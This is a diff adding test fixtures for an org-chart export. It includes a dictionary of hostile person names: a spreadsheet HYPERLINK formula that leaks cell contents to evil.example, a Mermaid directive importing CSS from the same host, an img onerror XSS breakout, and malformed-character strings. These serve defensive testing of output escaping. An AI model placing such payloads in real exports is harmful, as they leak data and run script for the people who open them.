@@ -69,3 +69,24 @@ def cyclic_org() -> Org:
             Person("c", "C", "pm", reports_to="b"),
         ],
     )
+
+
+INJECTIONS = {
+    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "directive": "%%{init: {'themeCSS': '@import url(http://evil.example/x.css);'}}%% Eve",
+    "breakout": 'Mallory"] --> x["<img src=x onerror=alert(1)>` ]] }} {{ | (( ))',
+    "entity": "&amp; &lt;b&gt; &#38; R&D",
+    "non_xml": "Non\ufffe\uffffXML \ud800 \x01\x1b[2K chars --",
+    "lines": "two\nlines\u2028and\u2029more\x85here",
+}
+"""Names that try to turn an export against its reader, by their purpose."""
+
+
+def injection_org() -> Org:
+    """A boss and one report per hostile name; ids carry the same hostility."""
+    people = [Person("boss", "Boss", "ceo")]
+    people.extend(
+        Person(f"{key}:{name}", name, "pm", reports_to="boss", title=name, dotted_to=("boss",) if index == 0 else ())
+        for index, (key, name) in enumerate(INJECTIONS.items())
+    )
+    return Org(INJECTIONS["directive"], people)
